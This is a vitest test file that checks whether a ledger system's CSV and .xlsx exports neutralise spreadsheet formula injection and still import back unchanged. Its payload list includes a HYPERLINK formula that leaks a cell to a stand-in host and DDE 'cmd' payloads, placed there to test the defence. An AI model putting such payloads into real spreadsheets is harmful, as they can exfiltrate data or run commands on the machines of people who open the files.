/**
 * Spreadsheet formula injection (OWASP "CSV injection"): ledger text an expert typed that
 * starts with `=`, `+`, `-`, `@`, a tab or a carriage return must not become a formula in the
 * bureau's Excel, in CSV or .xlsx exports; and an exported file still imports back unchanged.
 */
import { csvRows } from '@techvp/server/dist/modules/spreadsheet/parse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ENGINE } from '../support/db';
import { startTestServer, TestServer } from '../support/server';
import { contentHash, CSV, download, ExcelJS, importFile } from './support';

const PAYLOADS = [
  '=HYPERLINK("http://evil.invalid/?leak="&A1,"点此查看")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1 现场指导',
  '\r=1+1 现场指导',
];
const FORMULA_START = /^[=+\-@\t\r]/;

describe(`exports neutralise formula-like text (${ENGINE})`, () => {
  let api: TestServer;
  let bureau: string;
  let entryIds: number[];

  beforeAll(async () => {
    api = await startTestServer({ as: null });
    bureau = await api.login('bureau');
    // What experts typed into their ledgers (content and effect), as stored.
    const { rows } = await api.db.sql.query<{ id: number }>('select id from ledger_entry order by id limit $1', [PAYLOADS.length]);
    entryIds = rows.map((r) => r.id);
    for (const [i, id] of entryIds.entries()) {
      await api.db.sql.query('update ledger_entry set content = $2, effect = $3 where id = $1', [
        id,
        PAYLOADS[i],
        PAYLOADS[(i + 1) % PAYLOADS.length],
      ]);
    }
  });
  afterAll(async () => api?.close());

  it('writes the payloads behind an apostrophe in CSV, and no cell starts with a formula character', async () => {
    const file = await download(api, bureau, '/api/spreadsheets/export/ledger.csv');
    expect(file.status).toBe(200);
    const [header, ...rows] = [...csvRows(file.body.toString('utf8').replace(/^\ufeff/, ''))].map((r) => r.cells as Array<string | null>);
    const col = (h: string) => header.findIndex((c) => String(c).replace(/\*$/, '') === h);
    const byId = new Map(rows.map((r) => [Number(r[col('台账编号')]), r]));
    for (const [i, id] of entryIds.entries()) {
      expect(byId.get(id)![col('服务内容')]).toBe(`'${PAYLOADS[i]}`);
      expect(byId.get(id)![col('服务效果')]).toBe(`'${PAYLOADS[(i + 1) % PAYLOADS.length]}`);
    }
    const dangerous = rows.flat().filter((c) => typeof c === 'string' && FORMULA_START.test(c));
    expect(dangerous).toEqual([]);
  });

  it('writes them as text behind an apostrophe in .xlsx, with no formula cell anywhere', async () => {
    const file = await download(api, bureau, '/api/spreadsheets/export/ledger.xlsx');
    expect(file.status).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(file.body as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('服务台账')!;
    const header = (sheet.getRow(1).values as unknown[]).map((v) => String(v ?? '').replace(/\*$/, ''));
    const idCol = header.indexOf('台账编号');
    const contentCol = header.indexOf('服务内容');
    const found = new Map<number, unknown>();
    const dangerous: unknown[] = [];
    wb.eachSheet((ws) =>
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula) dangerous.push(cell.value);
          if (typeof cell.value === 'string' && FORMULA_START.test(cell.value)) dangerous.push(cell.value);
        }),
      ),
    );
    sheet.eachRow((row, n) => {
      if (n > 1) found.set(Number(row.getCell(idCol).value), row.getCell(contentCol).value);
    });
    // XML turns a carriage return into a line feed (exceljs writes no _x000D_); the apostrophe still leads.
    for (const [i, id] of entryIds.entries()) expect(found.get(id)).toBe(`'${PAYLOADS[i].replace(/\r/g, '\n')}`);
    expect(dangerous).toEqual([]);
  });

  it('imports an exported file back to the same text (the apostrophe comes off)', async () => {
    const roundTrip = async (format: 'csv' | 'xlsx') => {
      const before = await contentHash(api.db.sql, ['ledger_entry']);
      const file = await download(api, bureau, `/api/spreadsheets/export/ledger.${format}`);
      const { status, report } = await importFile(api, bureau, 'ledger', file.body, { type: format === 'csv' ? CSV : undefined });
      expect(report.problems, format).toEqual([]);
      expect(status, format).toBe(200);
      expect(report, format).toMatchObject({ ok: true, inserted: 0, updated: 0 });
      expect(await contentHash(api.db.sql, ['ledger_entry']), format).toEqual(before);
    };
    await roundTrip('csv');
    const { rows } = await api.db.sql.query<{ content: string }>('select content from ledger_entry where id = any($1) order by id', [
      entryIds,
    ]);
    expect(rows.map((r) => r.content)).toEqual(PAYLOADS);
    // .xlsx carries no carriage return (see above): the other payloads round-trip there too.
    await api.db.sql.query(
      `update ledger_entry set content = replace(content, E'\r', '-'), effect = replace(effect, E'\r', '-') where id = any($1)`,
      [entryIds],
    );
    await roundTrip('xlsx');
  });
});
